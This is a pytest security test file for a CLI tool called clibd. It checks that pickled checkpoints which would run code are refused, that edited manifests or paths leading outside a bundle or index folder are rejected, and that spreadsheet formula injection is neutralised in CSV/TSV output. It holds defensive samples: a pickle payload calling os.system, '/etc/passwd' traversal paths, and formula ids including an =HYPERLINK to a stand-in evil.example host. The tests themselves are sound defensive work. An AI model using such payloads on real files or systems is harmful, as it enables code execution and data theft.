"""Fault suite, security part (issue 10, items 1–3): files handed over by others are data, never code.

1. A checkpoint whose pickle would run a command is refused by `export`, `evaluate --model` and
   `train --resume` before anything runs (the payload only writes a marker file, whose absence the
   tests check); `--trust-checkpoint` is the explicit way to open an older checkpoint one trusts.
2. A bundle manifest that was edited is refused, and neither a bundle nor an index loads a file from
   outside its own folder.
3. Ids and taxonomy that a spreadsheet would run as formulas are neutralised in CSV/TSV (not in
   JSON/JSONL), and `--resume` still recognises the finished queries.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import random
import shlex
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import torch
from conftest import invoke, make_reference, one_error_line, write_fasta

from clibd_cli.bundle import FORMAT_VERSION, MANIFEST, BundleError, ModelBundle
from clibd_cli.checksums import sealed
from clibd_cli.errors import InputError
from clibd_cli.report import MATCH_COLUMNS, RowWriter

# ------------------------------------------------------------------------------ 1. checkpoints

class Payload:
    """Pickles as a call of os.system: unpickling it with the full unpickler writes `marker`."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {shlex.quote(str(self.marker))}",)


def evil_checkpoint(path: Path, marker: Path) -> Path:
    """A file shaped like a `clibd train` checkpoint whose model_config runs a command when unpickled."""
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"model": {}, "model_config": Payload(marker), "step": 1, "epoch": 0, "batch_in_epoch": 0,
                "world_size": 1}, path)
    return path


def test_export_refuses_a_checkpoint_that_runs_code(tmp_path):
    marker = tmp_path / "pwned"
    evil = evil_checkpoint(tmp_path / "evil.pt", marker)
    line = one_error_line(invoke("export", evil, "-o", tmp_path / "bundle"), str(evil), "not a safe checkpoint",
                          "--trust-checkpoint")
    assert "posix.system" in line or "os.system" in line  # says what the file would have imported
    assert not marker.exists()
    assert not (tmp_path / "bundle").exists()


def test_evaluate_refuses_a_checkpoint_that_runs_code(tmp_path):
    marker = tmp_path / "pwned"
    evil = evil_checkpoint(tmp_path / "evil.pt", marker)
    table = tmp_path / "split.tsv"
    table.write_text("processid\tsplit\torder\tfamily\tgenus\tspecies\tnucleotides\n"
                     "A1\ttest_seen\tDiptera\tSciaridae\tBradysia\tBradysia sp\tACGTACGTACGTACGTACGT\n")
    one_error_line(invoke("evaluate", "--model", evil, "--data", table), "not a safe checkpoint",
                   "--trust-checkpoint")
    assert not marker.exists()


def test_train_resume_refuses_a_replaced_last_checkpoint(tmp_path):
    """RUN/checkpoints/last.pt swapped for a payload: refused before torchrun starts a worker."""
    from clibd_training.config import load_config, save_config
    from clibd_training.synthetic import write_simulation

    sim, run, marker = tmp_path / "sim", tmp_path / "run", tmp_path / "pwned"
    write_simulation(sim, n_species=8, image_size=32, hdf5=False)
    config = load_config("tiny-cpu")
    config.data.path = str(sim)
    run.mkdir()
    save_config(config, run / "config.yaml")
    evil_checkpoint(run / "checkpoints" / "last.pt", marker)
    one_error_line(invoke("train", "--output", run, "--resume"), "last.pt", "not a safe checkpoint",
                   "--trust-checkpoint")
    assert not marker.exists()


def test_own_checkpoints_restore_every_rng_from_plain_data(tmp_path):
    """What `clibd train` saves for --resume opens as plain data and restores the exact random streams."""
    from clibd_training.checkpoint import load_state
    from clibd_training.train import rng_state, set_rng_state

    random.seed(5)
    np.random.seed(6)
    torch.manual_seed(7)
    random.gauss(0, 1)  # leaves a cached Gaussian in Python's state, which must survive too
    torch.save({"rng": [rng_state()], "step": 3, "best": -float("inf")}, tmp_path / "last.pt")
    expected = (random.random(), random.gauss(0, 1), np.random.rand(), np.random.normal(), torch.rand(3).tolist())
    random.seed(0)
    np.random.seed(0)
    torch.manual_seed(0)
    set_rng_state(load_state(tmp_path / "last.pt")["rng"][0])
    assert (random.random(), random.gauss(0, 1), np.random.rand(), np.random.normal(), torch.rand(3).tolist()) \
        == expected
    # A trusted checkpoint of the older format (Python and NumPy tuples) still resumes.
    old = {"python": random.getstate(), "numpy": np.random.get_state(), "torch": torch.get_rng_state()}
    expected = (random.random(), np.random.normal(), torch.rand(2).tolist())
    set_rng_state(old)
    assert (random.random(), np.random.normal(), torch.rand(2).tolist()) == expected


def test_old_format_checkpoint_needs_trust(tiny_model, tmp_path):
    """A checkpoint with a NumPy RNG state inside (clibd before this format) opens only when trusted."""
    from clibd_export.onnx import load_checkpoint

    state = torch.load(tiny_model.checkpoint, map_location="cpu", weights_only=True)
    state["rng"] = [{"numpy": np.random.get_state()}]
    old = tmp_path / "run" / "checkpoints" / "best.pt"
    old.parent.mkdir(parents=True)
    shutil.copytree(tiny_model.checkpoint.parent.parent / "text_tokenizer", tmp_path / "run" / "text_tokenizer")
    torch.save(state, old)
    with pytest.raises(InputError, match=r"not a safe checkpoint \(it would import numpy.*--trust-checkpoint"):
        load_checkpoint(old)
    one_error_line(invoke("export", old, "-o", tmp_path / "bundle"), "not a safe checkpoint")
    source = load_checkpoint(old, trust=True)
    assert source.info["step"] == 1 and source.model.config.embed_dim == 64
    result = invoke("export", old, "-o", tmp_path / "bundle", "--trust-checkpoint")
    assert result.exit_code == 0, result.output
    assert ModelBundle.load(tmp_path / "bundle").modalities == ("image", "dna", "text")


# ------------------------------------------------------------------------------ 2. manifests

def seal(manifest: dict) -> dict:
    """What a forger who knows the format would write: the manifest with a correct checksum of itself."""
    body = {k: v for k, v in manifest.items() if k != "manifest_sha256"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return {**manifest, "manifest_sha256": hashlib.sha256(text.encode("utf-8")).hexdigest()}


def bundle_copy(tiny_model, folder: Path) -> tuple[Path, dict]:
    shutil.copytree(tiny_model.bundle, folder)
    return folder, json.loads((folder / MANIFEST).read_text())


@pytest.mark.parametrize("edit", ["image_mean", "embed_dim", "dna_k"])
def test_edited_bundle_manifest_is_refused(tiny_model, tmp_path, edit):
    bundle, manifest = bundle_copy(tiny_model, tmp_path / "bundle")
    # The checksum is over the content: re-indenting or reordering the file is no change ...
    (bundle / MANIFEST).write_text(json.dumps(dict(reversed(list(manifest.items()))), indent=4, sort_keys=True))
    assert ModelBundle.load(bundle, device="cpu").embed_dna(["ACGT" * 100]).shape == (1, 64)
    # ... while any edited value is.
    if edit == "image_mean":
        manifest["modalities"]["image"]["preprocessing"]["mean"] = [0.9, 0.9, 0.9]
    elif edit == "embed_dim":
        manifest["embed_dim"] = 32
    else:
        manifest["modalities"]["dna"]["tokenizer"]["k"] = 5
    (bundle / MANIFEST).write_text(json.dumps(manifest, indent=2))
    with pytest.raises(BundleError, match="bundle manifest was modified"):
        ModelBundle.load(bundle)
    out = tmp_path / "e.npy"
    line = one_error_line(invoke("embed", tiny_model.sim / "specimens.tsv", "--modality", "dna", "--model", bundle,
                                 "-o", out), MANIFEST, "checksum mismatch")
    assert "Re-export" in line
    assert not out.exists()


@pytest.mark.parametrize("where", ["parent", "absolute", "symlink"])
def test_bundle_file_outside_the_folder_is_refused(tiny_model, tmp_path, where):
    """Even with a correct checksum, a manifest cannot make clibd load a model from elsewhere."""
    bundle, manifest = bundle_copy(tiny_model, tmp_path / "bundle")
    outside = tmp_path / "x.onnx"
    shutil.copyfile(bundle / "dna.onnx", outside)
    name = {"parent": "../x.onnx", "absolute": str(outside), "symlink": "link.onnx"}[where]
    if where == "symlink":
        (bundle / "link.onnx").symlink_to(outside)
    manifest["modalities"]["dna"]["file"] = name
    manifest["format_version"] = FORMAT_VERSION
    (bundle / MANIFEST).write_text(json.dumps(seal(manifest), indent=2))
    with pytest.raises(BundleError, match="outside the bundle folder"):
        ModelBundle.load(bundle).embed_dna(["ACGT" * 100])
    out = tmp_path / "e.npy"
    one_error_line(invoke("embed", tiny_model.sim / "specimens.tsv", "--modality", "dna", "--model", bundle,
                          "-o", out), "outside the bundle folder", repr(name))
    assert not out.exists()


@pytest.fixture(scope="module")
def small_index(tmp_path_factory):
    root = tmp_path_factory.mktemp("security_index")
    reference = write_fasta(root / "reference.fasta", make_reference(seed=3, species=2, specimens=3))
    index = root / "index"
    assert invoke("build-index", "-b", reference, "-o", index).exit_code == 0
    return reference, index


@pytest.mark.parametrize("target", ["../../../../etc/passwd", "/etc/passwd", "other_index_graph"])
def test_index_file_outside_the_folder_is_refused(small_index, tmp_path, target):
    reference, source = small_index
    index = tmp_path / "index"
    shutil.copytree(source, index)
    if target == "other_index_graph":  # a valid graph from elsewhere: the old code loaded it and answered
        (tmp_path / "elsewhere").mkdir()
        shutil.copyfile(source / "gen-000001" / "dna.hnsw", tmp_path / "elsewhere" / "dna.hnsw")
        target = "../../elsewhere/dna.hnsw"
    manifest = json.loads((index / "index.json").read_text())
    manifest["parts"]["dna"]["file"] = target
    (index / "index.json").write_text(json.dumps(sealed(manifest)))  # resealed: confinement is checked on its own
    one_error_line(invoke("match", reference, "-i", index, "-o", tmp_path / "out.csv"), "outside the index folder",
                   repr(target))
    assert not (tmp_path / "out.csv").exists()


# ------------------------------------------------------------------------------ 3. formulas

FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3+cmd!A0", "@SUM(1+1)",
               "'=already_quoted", "plain-id"]


@pytest.fixture(scope="module")
def formula_files(tmp_path_factory):
    """A reference whose first species is named like a formula, and queries with formula-like ids."""
    root = tmp_path_factory.mktemp("formulas")
    specimens = make_reference(seed=11, species=2, specimens=4)
    evil_species = specimens[0].species
    specimens = [replace(s, species="=1+2 " + s.species.split()[1]) if s.species == evil_species else s
                 for s in specimens]
    reference = write_fasta(root / "reference.fasta", specimens)
    queries = [replace(s, id=FORMULA_IDS[i]) for i, s in enumerate(specimens[:: len(specimens) // 6][:6])]
    query_file = write_fasta(root / "queries.fasta", queries, style="bare")
    index = root / "index"
    assert invoke("build-index", "-b", reference, "-o", index).exit_code == 0
    return {"root": root, "queries": query_file, "index": index, "query_specimens": queries}


def raw_rows(path: Path, delimiter: str) -> list[dict]:
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def test_formula_cells_are_neutralised_in_spreadsheet_formats_only(formula_files, tmp_path):
    outputs = {}
    for fmt in ("csv", "tsv", "json", "jsonl"):
        out, hits = tmp_path / f"out.{fmt}", tmp_path / f"hits.{fmt}"
        result = invoke("match", formula_files["queries"], "-i", formula_files["index"], "-o", out, "--hits", hits)
        assert result.exit_code == 0, result.output
        outputs[fmt] = out, hits
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        rows, hit_rows = (raw_rows(path, delimiter) for path in outputs[fmt])
        assert [r["query_id"] for r in rows] == ["'" + q if q[0] in "=+-@'" else q for q in FORMULA_IDS]
        for row in rows + hit_rows:
            for column, value in row.items():
                assert not value or value[0] not in "=+-@\t\r", (fmt, column, value)  # nothing a spreadsheet runs
        assert any(r["species"].startswith("'=1+2 ") for r in rows + hit_rows)
        for row in rows:  # numbers are still numbers
            if row["top_hit_similarity"]:
                float(row["top_hit_similarity"])
    # JSON is read by programs, not spreadsheets: values stay exactly as they are.
    text = outputs["json"][0].read_text()
    json_rows = json.loads(text)["results"]
    jsonl_rows = [json.loads(line) for line in outputs["jsonl"][0].read_text().splitlines()]
    for rows in (json_rows, jsonl_rows):
        assert [r["query_id"] for r in rows] == FORMULA_IDS
        assert any(r["species"].startswith("=1+2 ") for r in rows)


def test_resume_maps_neutralised_ids_back(formula_files, tmp_path):
    """--resume reads the quoted ids back as the query ids: no query is redone or lost."""
    out = tmp_path / "out.csv"
    assert invoke("match", formula_files["queries"], "-i", formula_files["index"], "-o", out).exit_code == 0
    lines = out.read_text().splitlines(keepends=True)
    assert lines[1].startswith('"\'=HYPERLINK')  # quoted by csv for its own '"' characters
    out.write_text("".join(lines[:4]))  # as if killed after three rows
    result = invoke("match", formula_files["queries"], "-i", formula_files["index"], "-o", out, "--resume")
    assert result.exit_code == 0, result.output
    assert "(3 already done)" in result.stderr
    ids = [r["query_id"] for r in raw_rows(out, ",")]
    assert ids == ["'" + q if q[0] in "=+-@'" else q for q in FORMULA_IDS]


def test_negative_numbers_stay_numbers(tmp_path):
    """Only text is quoted: -0.5 as a number or as the text of a number is left as it is."""
    from clibd_cli.report import neutralise, restore

    out = tmp_path / "rows.csv"
    writer = RowWriter(out, "csv", ["query_id", "top_hit_similarity", "bin", "flags"])
    writer.write({"query_id": "-0.5", "top_hit_similarity": -0.25, "bin": "-", "flags": "\tx"})
    writer.write({"query_id": "+41 79", "top_hit_similarity": -3, "bin": "@bin", "flags": ""})
    writer.close()
    with open(out, newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["-0.5", "-0.25", "'-", "'\tx"]
    assert rows[2] == ["'+41 79", "-3", "'@bin", ""]
    assert neutralise("\rx") == "'\rx" and restore("'\rx") == "\rx"  # OWASP's sixth trigger
    jsonl = tmp_path / "rows.jsonl"
    writer = RowWriter(jsonl, "jsonl", MATCH_COLUMNS)
    writer.write({"query_id": "=1+2", "top_hit_similarity": -0.25})
    writer.close()
    row = json.loads(jsonl.read_text())
    assert row["query_id"] == "=1+2" and row["top_hit_similarity"] == -0.25
